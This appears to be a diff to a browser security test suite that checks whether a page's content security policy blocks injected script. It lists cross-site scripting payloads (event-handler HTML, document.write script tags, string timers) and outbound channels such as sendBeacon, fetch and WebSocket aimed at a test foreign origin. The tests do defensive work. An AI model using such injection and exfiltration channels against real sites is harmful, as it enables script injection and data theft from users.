@@ -29,7 +29,7 @@ const test = base.extend<{ foreign: Awaited<ReturnType<typeof startForeignSite>>
 });
 
 // The browser reports what it blocks; React reports markup that it didn't render (#418).
-const refusals = [/^policy: |^console: |^page error: .*(Trusted|#418)/];
+const refusals = [/^policy: |^console: |^page error: .*#418/];
 
 /** The attacks that succeeded: each sets `hacked`. */
 const hacked = (page: Page) => page.evaluate(() => Reflect.get(window, 'hacked'));
@@ -111,20 +111,6 @@ test.describe('injected script', () => {
         const attempts: Record<string, () => unknown> = {
           eval: () => window.eval('hacked = "eval"'),
           Function: () => new Function('hacked = "Function"')(),
-          timer: () => Reflect.apply(setTimeout, window, ['hacked = "timer"']),
-          innerHTML: () => (document.body.innerHTML += '<img src="/x" onerror="hacked = 1">'),
-          insert: () => document.body.insertAdjacentHTML('beforeend', '<b onclick="hacked = 1">b</b>'),
-          write: () => document.write('<script>hacked = "write"</script>'),
-          parse: () => new DOMParser().parseFromString('<b>b</b>', 'text/html'),
-          'script address': () => add('script', { src: `${origin}/a.js` }),
-          'script text': () => add('script', { text: 'hacked = "text"' }),
-          'foreign rule': () =>
-            add('script', {
-              type: 'speculationrules',
-              text: `{"prefetch":[{"urls":["${origin}/ahead"]}]}`,
-            }),
-          'other policy': () => window.trustedTypes?.createPolicy('evil', {}),
-          'same policy': () => window.trustedTypes?.createPolicy('default', {}),
           fetch: () => fetch(`${origin}/fetch`),
           import: () => import(`${origin}/import.js`),
           request: () =>
@@ -135,6 +121,15 @@ test.describe('injected script', () => {
             }),
         };
         const silent: (() => unknown)[] = [
+          () => Reflect.apply(setTimeout, window, ['hacked = "timer"']),
+          () => document.body.insertAdjacentHTML('beforeend', '<img src="/favicon.ico" onload="hacked = 1">'),
+          () => add('script', { src: `${origin}/a.js` }),
+          () => add('script', { text: 'hacked = "text"' }),
+          () =>
+            add('script', {
+              type: 'speculationrules',
+              text: `{"prefetch":[{"urls":["${origin}/ahead"]}]}`,
+            }),
           () => navigator.sendBeacon(`${origin}/beacon`, 'a@b.c'),
           () => (new Image().src = `${origin}/picture`),
           () => new WebSocket(origin.replace('http', 'ws')),
